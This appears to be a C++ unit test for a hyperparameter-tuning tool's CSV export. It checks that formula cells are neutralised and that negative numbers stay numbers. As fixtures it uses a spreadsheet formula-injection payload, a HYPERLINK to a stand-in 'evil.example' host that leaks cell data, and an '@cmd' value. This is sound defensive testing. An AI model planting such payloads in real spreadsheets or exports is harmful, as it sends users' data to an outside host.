// `hpt export` writes no cell a spreadsheet would run as a formula (issue
// 30, finding 11): a categorical value such as =HYPERLINK(...) gets the
// dashboard's leading ', while negative numbers stay numbers.
#include <gtest/gtest.h>

#include "tests/testing/hpt_process.h"
#include "tests/testing/temp_dir.h"

namespace hpt::testing {
namespace {

using nlohmann::json;

const char kLink[] = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";

TEST(ExportCsvTest, FormulaCellsAreNeutralisedAndNegativeNumbersKept) {
  TempDir dir;
  HptProcess server(dir.File("hpt.db"));
  auto client = server.Client();
  json spec = {{"name", "formula"},
               {"objective", {{"type", "minimize"}, {"objectiveMetricName", "loss"}}},
               {"algorithm", {{"algorithmName", "random"}}},
               {"maxTrialCount", 2},
               {"parameters",
                {{{"name", "x"}, {"parameterType", "double"},
                  {"feasibleSpace", {{"min", "-5"}, {"max", "-1"}}}},
                 {{"name", "opt"}, {"parameterType", "categorical"},
                  {"feasibleSpace", {{"list", {kLink, "@cmd", "adam"}}}}}}}};
  ASSERT_TRUE(client->Json("POST", "/api/v1/experiments", spec).ok());
  json enqueue = {{"trials", {{{"parameterAssignments", {{{"name", "x"}, {"value", "-2.5"}},
                                                         {{"name", "opt"}, {"value", kLink}}}}},
                              {{"parameterAssignments", {{{"name", "x"}, {"value", "-3"}},
                                                         {{"name", "opt"}, {"value", "@cmd"}}}}}}}};
  ASSERT_TRUE(client->Json("POST", "/api/v1/experiments/formula/trials:enqueue", enqueue).ok());
  auto trials = client->Json("POST", "/api/v1/experiments/formula/trials:suggest", {{"count", 2}});
  ASSERT_TRUE(trials.ok()) << trials.status().ToString();
  ASSERT_EQ((*trials)["trials"].size(), 2u);
  for (const auto& t : (*trials)["trials"]) {
    auto done = client->Json("POST", "/api/v1/experiments/formula/trials/" +
                                         t["name"].get<std::string>() + ":complete",
                             {{"metrics", {{"loss", -0.5}}}});
    ASSERT_TRUE(done.ok()) << done.status().ToString();
  }

  std::string out, err;
  ASSERT_EQ(RunHpt({"export", "--server", server.url(), "formula"}, &out, &err), 0) << err;
  std::istringstream csv(out);
  std::string header, first, second;
  std::getline(csv, header);
  std::getline(csv, first);
  std::getline(csv, second);
  EXPECT_EQ(header, "trial,phase,x,opt,loss,reason,startTime,completionTime");
  // The formula is text: a leading ', and RFC 4180's quoting of its quotes.
  EXPECT_EQ(first.substr(0, first.find(",Completed")),
            "formula-1,Succeeded,-2.5,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"
            "\"\"open\"\")\",-0.5")
      << out;
  EXPECT_EQ(second.substr(0, second.find(",Completed")), "formula-2,Succeeded,-3,'@cmd,-0.5")
      << out;
  // The same rule for every CSV the CLI writes (`hpt best -o csv` too).
  ASSERT_EQ(RunHpt({"best", "--server", server.url(), "formula", "-o", "csv"}, &out, &err), 0)
      << err;
  EXPECT_EQ(out.find(",=HYPERLINK"), std::string::npos) << out;
  EXPECT_EQ(out.find(",@cmd"), std::string::npos) << out;
}

}  // namespace
}  // namespace hpt::testing
